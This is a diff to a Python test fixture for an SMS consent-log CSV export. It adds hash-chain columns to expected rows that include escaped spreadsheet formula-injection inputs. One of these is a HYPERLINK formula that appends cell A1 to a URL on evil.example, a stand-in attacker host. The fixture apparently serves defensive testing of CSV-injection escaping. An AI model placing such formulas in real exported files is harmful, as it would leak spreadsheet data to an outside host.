@@ -85,18 +85,18 @@ def seed(engine) -> None:  # noqa: ANN001
 
 CONSENT_SAFE = (
     "occurred_at,phone_number,event,keyword,message_body,message_sid,source,program,"
-    "disclosure,campaign,review_by,note\r\n"
+    "disclosure,campaign,review_by,note,event_id,chain_position,prev_hash,hash\r\n"
     "2026-01-01T09:30:05+00:00,+12025550123,opt_in,JOIN,JOIN,SM1,sms,Rights Alerts,"
-    '"Rights Alerts: Reply ""STOP"" to end, HELP for help",,,\r\n'
+    '"Rights Alerts: Reply ""STOP"" to end, HELP for help",,,,1,,,\r\n'
     "2026-01-01T09:30:05.000123+00:00,+12025550123,possible_opt_out,,"
     '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"") stop",SM2,sms,Rights Alerts,,,'
-    '2026-01-15,"line one\nline two"\r\n'
+    '2026-01-15,"line one\nline two",2,,,\r\n'
     "2026-01-02T09:30:05.999999+00:00,+14155550100,signature,HK64,'-2+3,SM3,web,"
-    "Rights Alerts,,HK64,,'\tsee ticket\r\n"
+    "Rights Alerts,,HK64,,'\tsee ticket,3,,,\r\n"
     "2026-01-03T09:30:05+00:00,+14155550100,opt_out,STOP,"
-    '"\'@SUM(1,2) stop\r\nplease",SM4,sms,Rights Alerts,,,,\r\n'
+    '"\'@SUM(1,2) stop\r\nplease",SM4,sms,Rights Alerts,,,,,4,,,\r\n'
     '2026-01-04T09:30:05.500000+00:00,+12025550123,help,,+1,"\'\r=SM5",sms,Rights Alerts,'
-    ",,,Señora Núñez 🛑 -5\r\n"
+    ",,,Señora Núñez 🛑 -5,5,,,\r\n"
 )
 SIGNATURES_SAFE = (
     "signed_at,phone_number,name,campaign,campaign_title,source\r\n"
